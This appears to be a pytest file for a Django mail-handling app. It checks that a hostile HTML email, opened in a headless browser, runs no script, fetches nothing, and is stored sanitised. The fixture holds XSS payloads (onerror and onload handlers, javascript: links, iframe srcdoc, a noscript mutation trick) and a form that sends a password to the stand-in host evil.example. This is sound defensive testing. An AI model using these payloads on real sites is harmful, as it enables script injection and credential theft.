"""A mail full of scripts, looked at by an agent in a real browser: nothing of it runs, nothing is fetched, the words are there."""

import pytest
from django.test import Client

from kesher.cases.models import Message
from tests.bad_input import mails
from tests.bad_input.conftest import read_all
from tests.browser.desk import HOST, chromium_opened, open_page
from tests.cases.house import House

pytestmark = pytest.mark.django_db
HOSTILE = """<html><head><script>window.ran = 'head'</script><base href="https://evil.example/"></head>
<body onload="window.ran = 'onload'"><h1>Words of the page</h1>
<img src=x onerror="window.ran = 'img'"><svg onload="window.ran = 'svg'"><script>window.ran = 'svg script'</script></svg>
<a href="javascript:window.ran = 'link'">press me</a><iframe srcdoc="<script>parent.ran = 'frame'</script>"></iframe>
<form action="https://evil.example/steal"><input name="password"><button>Go</button></form>
<style>body { background: url(https://evil.example/seen.png) }</style>
<img src="https://evil.example/pixel.gif"><math><mtext><script>window.ran = 'math'</script></mtext></math>
<div style="position:fixed;inset:0;background:url(https://evil.example/cover.png)">Cover</div>
<noscript><p title="</noscript><img src=x onerror=window.ran='noscript'>"></noscript></body></html>"""


def _arrives(house: House, content: bytes) -> None:
    from kesher.channels.actions import keep
    from kesher.channels.types import Raw
    from kesher.core import clock

    keep(house.accounts.mail.pk, Raw(content, {"rcpt-to": "care@shikma.example"}, clock.now()))
    read_all()


def test_nothing_of_a_hostile_page_runs_or_is_fetched_when_an_agent_reads_it(house: House) -> None:
    _arrives(house, mails.with_html(HOSTILE))
    message = Message.objects.get(direction="in")
    client = Client()
    client.force_login(house.cast.dana, backend="allauth.account.auth_backends.AuthenticationBackend")
    asked: list[str] = []

    with chromium_opened() as browser:
        page = open_page(browser, client, f"/desk/case/{message.case_id}/")
        page.on("request", lambda request: asked.append(request.url))
        page.wait_for_load_state("load")
        for link in page.get_by_text("press me").all():
            link.click(force=True, no_wait_after=True)
        ran = page.evaluate("window.ran")
        forms = page.locator("form[action*='evil']").count()
        frames = [frame.url for frame in page.frames if "evil" in frame.url]
        shown = page.content()

    assert ran is None
    assert (forms, frames) == (0, [])
    assert not [url for url in asked if "evil.example" in url]
    assert "Words of the page" in shown or "The words as text" in shown
    assert HOST


def test_what_is_stored_of_it_holds_no_script_and_the_original_stays(house: House) -> None:
    content = mails.with_html(HOSTILE)
    _arrives(house, content)

    message = Message.objects.get(direction="in")

    assert "Words of the page" in message.html
    for word in ("<script", "onerror", "onload", "javascript:", "<iframe", "<form", "<style"):
        assert word not in message.html.lower()
    from kesher.channels.models import Envelope

    assert bytes(Envelope.objects.get().body or b"") == content
